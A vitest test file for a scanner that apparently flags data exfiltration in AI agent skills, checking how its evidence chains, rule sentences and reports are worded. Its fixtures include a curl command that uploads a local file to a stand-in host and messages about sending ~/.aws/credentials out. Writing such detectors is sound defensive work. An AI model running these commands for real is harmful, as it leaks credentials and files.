import { describe, expect, test } from "vitest";
import { treeFile } from "../../src/core/path.ts";
import type { Rule } from "../../src/core/rule.ts";
import { comment } from "../../src/report/markdown.ts";
import { alsoWords, evidenceWords, firstSentence, readingOf } from "../../src/report/reading.ts";
import { text } from "../../src/report/text.ts";
import { rules as allRules } from "../../src/rules/index.ts";
import { finding, place, report, rules, skill } from "./sample.ts";

const step = (at: string, message: string) => ({ location: place(at), message });
const holder = skill("skills/notes", { containers: ["skills/notes/x.zip"] });
const sent = finding("exfiltration/file-upload", "skills/notes/scripts/b.py:9", {
  message: "Sends ~/.aws/credentials to collect.example.test",
});
const evidence = (...steps: [at: string, message: string][]): string =>
  evidenceWords(holder, {
    ...sent,
    flow: [...steps, ["skills/notes/scripts/b.py:9", sent.message] as const].map(([at, message]) => step(at, message)),
  });

describe("the evidence", () => {
  test("is told step by step, each with its place within the skill", () => {
    expect(
      evidence(
        ["skills/notes/scripts/a.py:3", "reads ~/.aws/credentials"],
        ["skills/notes/scripts/b.py:7", "passed to upload()"],
      ),
    ).toBe(
      "Evidence: reads ~/.aws/credentials at scripts/a.py:3, passed to upload() at scripts/b.py:7, then this line.",
    );
  });

  test("of more than four steps is shortened in the middle", () => {
    const places = [1, 2, 3, 4, 5, 6].map((line): [string, string] => [`skills/notes/a.py:${line}`, `step ${line}`]);
    expect(evidence(...places)).toBe(
      "Evidence: step 1 at a.py:1, step 2 at a.py:2, 3 steps more, step 6 at a.py:6, then this line.",
    );
    expect(evidence(...places.slice(0, 4))).toContain("1 step more, step 4 at");
    expect(evidence(...places.slice(0, 3))).not.toContain("more");
  });

  test("names a line once, and says nothing of a way within the line that is shown", () => {
    expect(
      evidence(["skills/notes/a.py:3", "A file is read here"], ["skills/notes/a.py:3", "Here it is encoded"]),
    ).toBe("Evidence: a file is read, it is encoded at a.py:3, then this line.");
    expect(evidence(["skills/notes/scripts/b.py:9", "reads X"])).toBe("");
    expect(evidenceWords(holder, sent)).toBe("");
  });

  test("stays short, however long the names are", () => {
    const long = "x".repeat(5000);
    expect(evidence([`skills/notes/${long}:3`, long], [`skills/notes/${long}:4`, long]).length).toBeLessThan(600);
  });
});

test("what was seen names the thing: the line itself where the words name none", () => {
  const bare = finding("exfiltration/file-upload", "skills/notes/a.sh:1", {
    snippet: "  curl -d @x https://collect.example/up  ",
  });
  expect(readingOf(holder, bare, rules[0])).toMatch(
    /^Sends local files to another host: curl -d @x https:\/\/collect.example\/up\. A skill/,
  );
  const far = {
    ...bare,
    snippet: `${"y".repeat(300)} curl -d @x`,
    location: { ...bare.location, region: { ...bare.location.region, startColumn: 302 } },
  };
  expect(readingOf(holder, far, rules[0])).toMatch(/host: …y{9} curl -d @x\. /);
  expect(readingOf(holder, sent, undefined)).toBe("Sends ~/.aws/credentials to collect.example.test.");
});

test("first sentences are whole ones, in every rule", () => {
  expect(firstSentence("Runs something else, e.g. `a.b`. Then more.")).toBe("Runs something else, e.g. `a.b`.");
  expect(firstSentence("Remove it. Ask the user before it runs. More.")).toBe(
    "Remove it. Ask the user before it runs.",
  );
  expect(firstSentence("No stop")).toBe("No stop.");
  const words = allRules.flatMap((rule: Rule) => [firstSentence(rule.why), firstSentence(rule.remediation)]);
  for (const each of words) expect(each).toMatch(/^\S.{15,}[.!?]$/s);
});

test("a file of the tree is told from a member", () => {
  expect(treeFile(holder, "skills/notes/x.zip!/a/b")).toBe("skills/notes/x.zip");
  expect(treeFile(holder, "skills/notes/odd!/b")).toBe("skills/notes/odd!/b");
});

test("whoever saw the same is named", () => {
  const also = [{ ruleId: "a/b", confidence: "high", effective: "low", fingerprint: "0" } as const];
  const value = report({ skills: [skill("skills/notes", { findings: [{ ...sent, also }] })] });
  const seenBy = ["Other *scanner*"];
  expect(alsoWords({ ...sent, also })).toBe("Also seen by a/b.");
  expect(alsoWords({ ...sent, also, seenBy })).toBe("Also seen by a/b, Other *scanner*.");
  const shown = report({ skills: [skill("skills/notes", { findings: [{ ...sent, also, seenBy }] })] });
  expect(comment(shown, { rules, marker: "" })).toContain("also seen by `a/b`, Other `*scanner*`");
  expect(comment(value, { rules, marker: "" })).toContain("Rule `exfiltration/file-upload`, also seen by `a/b`");
  expect(text(value, { rules, color: false })).toMatch(/rule exfiltration\/file-upload\. Also seen\s+by a\/b\./);
});
